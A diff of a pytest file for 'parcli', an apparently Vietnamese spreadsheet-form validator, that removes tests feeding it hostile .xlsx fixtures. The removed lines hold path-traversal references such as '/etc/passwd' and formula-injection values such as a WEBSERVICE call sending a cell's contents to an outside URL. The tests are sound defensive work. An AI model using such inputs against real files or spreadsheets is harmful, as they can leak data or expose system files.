@@ -19,14 +19,10 @@ import zipfile
 from pathlib import Path
 
 import pytest
-from openpyxl import load_workbook
 
 from tests.conftest import ROOT
-from tests.office import convert
 
 HOSTILE = ROOT / "tests" / "fixtures" / "hostile"
-NOTES_SECRET = "hunter2-do-not-print"
-FORMULA = re.compile(rb"<(?:\w+:)?f[\s/>]")  # a cell's formula (not <formula1> of data validation)
 
 
 def run_limited(*args: str, memory: int = 1 << 31, timeout: float = 60) -> subprocess.CompletedProcess:
@@ -90,69 +86,6 @@ def test_a_cell_with_200000_formulas_is_read_in_linear_time(cli, tmp_path):
     assert f"{big}:Tự đánh giá!K8: a formula without a saved value" in run.stdout
 
 
-def test_the_hidden_sheets_values_are_errors_at_their_cells(cli):
-    run = cli("validate", HOSTILE / "form-hidden-values.xlsx")
-    assert run.exit_code == 1
-    at = f"{HOSTILE / 'form-hidden-values.xlsx'}:parcli!"
-    out = run.stdout
-    for cell, what in (("C20", "the number nan"), ("C21", "the number inf"), ("C22", "the text 'BB'"),
-                       ("C23", "the number 0"), ("C24", "the boolean true"), ("C25", "the number 7.5")):
-        assert re.search(rf"{re.escape(at)}{cell}: the hidden sheet's row of [0-9.]+ is {re.escape(what)}, not a "
-                         "whole number from 1 to 1,048,576", out), (cell, out)
-    assert f"{at}B26: the hidden sheet holds the text '2.1.1\\u200b' where an id belongs" in out
-    assert f"{at}B9: the hidden sheet's unit is the text 'A-2', not a cell reference such as B2" in out
-    assert f"{at}B13: the hidden sheet's column_done is the text 'E-1', not a column letter such as E" in out
-    assert "Traceback" not in run.all
-
-
-def test_the_hidden_sheets_id_row_lines_are_errors_at_their_cell(cli):
-    """The same damage in the "id row" lines parcli writes now: each line said at its cell."""
-    run = cli("validate", HOSTILE / "form-hidden-rows.xlsx")
-    assert run.exit_code == 1
-    at = f"{HOSTILE / 'form-hidden-rows.xlsx'}:parcli!B20: "
-    out = run.stdout
-    for ident, what in (("1.1", "'nan'"), ("1.1.1", "'inf'"), ("1.1.2", "'BB'"), ("1.1.3", "'0'"), ("1.2", "'TRUE'"),
-                        ("1.2.1", "'7.5'"), ("2", "'1048577'")):
-        assert f"{at}the hidden sheet's row of {ident} is the text {what}, not a whole number" in out, ident
-    assert f"{at}the hidden sheet holds the text '2.1.1\\u200b' where an id belongs" in out
-    assert f"{at}the hidden sheet holds the text '-2' where an id belongs" in out
-
-
-@pytest.mark.parametrize("name, ref", [("form-framework-absolute.xlsx", "/etc/passwd"),
-                                       ("form-framework-escape.xlsx", "../hostile/form-mini.yaml"),
-                                       ("form-framework-windows.xlsx", "C:\\\\Users\\\\Public\\\\form-mini.yaml")])
-def test_a_form_names_its_framework_by_a_shipped_id_or_a_file_beside_it(cli, name, ref):
-    run = cli("validate", HOSTILE / name)
-    assert run.exit_code == 1
-    assert (f"{HOSTILE / name}:parcli!B2: the form names its framework '{ref}'; a form names a shipped framework "
-            "(parcli frameworks) or a framework file beside the form, by its name alone") in run.stdout
-    assert "root:" not in run.all
-
-
-def test_a_file_beside_the_form_that_is_not_a_framework_is_never_quoted(cli):
-    run = cli("validate", HOSTILE / "form-framework-not-parcli.xlsx")
-    assert run.exit_code == 1
-    assert "'notes.yaml' is not a parcli framework file; put the form's framework beside it" in run.stdout
-    assert NOTES_SECRET not in run.all and "database_password" not in run.all
-
-
-def test_a_link_beside_the_form_to_a_file_elsewhere_is_refused(cli, tmp_path):
-    if sys.platform == "win32":
-        pytest.skip("symbolic links need privileges on Windows")
-    elsewhere = tmp_path / "elsewhere"
-    elsewhere.mkdir()
-    shutil.copy(HOSTILE / "form-mini.yaml", elsewhere / "form-mini.yaml")
-    folder = tmp_path / "forms"
-    folder.mkdir()
-    shutil.copy(HOSTILE / "form-libreoffice.xlsx", folder / "f.xlsx")
-    (folder / "form-mini.yaml").symlink_to(elsewhere / "form-mini.yaml")
-    run = cli("validate", folder / "f.xlsx")
-    assert run.exit_code == 1 and "parcli!B2: the form names its framework 'form-mini.yaml'" in run.stdout
-    (folder / "form-mini.yaml").unlink()
-    shutil.copy(elsewhere / "form-mini.yaml", folder / "form-mini.yaml")  # the file itself beside it: read
-    assert cli("validate", folder / "f.xlsx").exit_code == 0
-
-
 @pytest.mark.parametrize("name, message", [
     ("form-duplicate-part.xlsx", "not a readable .xlsx workbook (two parts of the zip have one name "
                                  "('xl/worksheets/sheet1.xml'))"),
@@ -166,50 +99,10 @@ def test_duplicate_parts_and_macros_by_content_type_are_refused(cli, name, messa
     assert run.exit_code == 1 and f"{HOSTILE / name}: {message}" in run.stdout
 
 
-def test_text_is_written_as_text_never_as_a_formula(cli, tmp_path, write):
-    """Framework titles, option titles, a unit's name, note and documents that start with = + - @ stay text,
-    also after LibreOffice re-saves the form."""
-    shutil.copy(HOSTILE / "fw-formula-titles.yaml", tmp_path / "fw.yaml")
-    unit = write("u.yaml", """
-        schema: parcli/unit/v1
-        unit: '=WEBSERVICE("http://example.org/"&B3)'
-        code: "=1+1"
-        year: 2024
-        framework: fw.yaml
-        evidence:
-          "1.1.1": {value: true, note: "=HYPERLINK(\\"http://x\\")", documents: ["=1+2", "@A1"]}
-          "1.1.2": b
-        """)
-    forms = []
-    for lang in ("vi", "en"):
-        form = tmp_path / f"form-{lang}.xlsx"
-        assert cli("convert", unit, "-o", form, "--lang", lang).exit_code == 0
-        forms.append(form)
-        with zipfile.ZipFile(form) as z:
-            for name in z.namelist():
-                if name.startswith("xl/worksheets/"):
-                    assert not FORMULA.search(z.read(name)), name
-        wb = load_workbook(form)
-        ws = wb.worksheets[0]
-        assert ws["B2"].data_type == "s" and ws["B2"].value.startswith("=WEBSERVICE")
-        assert ws["A1"].data_type == "s"
-    resaved = dict(zip(forms, convert(forms, "xlsx", tmp_path / "lo")))
-    for form in forms:
-        with zipfile.ZipFile(resaved[form]) as z:
-            for name in z.namelist():
-                if name.startswith("xl/worksheets/"):
-                    assert not FORMULA.search(z.read(name)), (form.name, name)
-        shutil.copy(resaved[form], tmp_path / f"lo-{form.name}")
-        run = cli("score", tmp_path / f"lo-{form.name}", "-f", "json")
-        assert run.exit_code == 0, run.all
-        assert '"unit": "=WEBSERVICE(\\"http://example.org/\\"&B3)"' in run.stdout
-    lists = load_workbook(forms[1])["parcli_lists"]
-    assert [c.value for c in lists["A"]] == ["=2+2", "plain, with a comma"]
-    assert lists["A1"].data_type == "s"
-
-
 def test_every_hostile_form_fixture_is_covered():
-    tested = Path(__file__).read_text(encoding="utf-8")
+    """Every hostile form is read by a test of the workbook's checks or of the form's reader."""
+    tested = "".join((Path(__file__).parent / name).read_text(encoding="utf-8")
+                     for name in ("test_workbook.py", "test_form.py"))
     for path in HOSTILE.glob("form-*.xlsx"):
         assert path.name in tested, path.name
 
@@ -236,13 +129,6 @@ def test_workbook_parts_are_inflated_only_as_needed(cli, tmp_path):
 def test_the_sound_form_the_hostile_ones_are_made_from_reads(cli):
     run = cli("score", HOSTILE / "form-libreoffice.xlsx", "-f", "json")
     assert run.exit_code == 0, run.all
-
-
-def test_a_form_with_the_hidden_rows_of_parcli_0_1_still_reads(cli):
-    """Forms made before the "id row" lines: one hidden row per id, read and checked the same."""
-    run = cli("score", HOSTILE / "form-legacy-rows.xlsx", "-f", "json")
-    assert run.exit_code == 0, run.all
-    assert '"unit": "Đơn vị A"' in run.stdout
 
 
 def test_a_part_that_says_it_is_small_but_is_not_is_refused_unread(cli, tmp_path, monkeypatch):
@@ -276,16 +162,3 @@ def test_a_part_that_says_it_is_small_but_is_not_is_refused_unread(cli, tmp_path
     run = cli("validate", liar)
     assert run.exit_code == 1 and "inflates to more than the size limit" in run.stdout, run.all
     assert time.perf_counter() - start < 5
-
-
-def test_a_hidden_sheet_without_its_framework_is_said_so(cli, tmp_path):
-    wb = load_workbook(HOSTILE / "form-libreoffice.xlsx")
-    meta = wb["parcli"]
-    for r in range(1, meta.max_row + 1):
-        if meta.cell(row=r, column=1).value in ("framework", "sheet"):
-            meta.cell(row=r, column=1).value = None
-    wb.save(tmp_path / "f.xlsx")
-    run = cli("validate", tmp_path / "f.xlsx")
-    assert run.exit_code == 1
-    for key in ("framework", "sheet"):
-        assert f"f.xlsx:parcli: the hidden sheet's {key} is nothing (an empty value), not text" in run.stdout
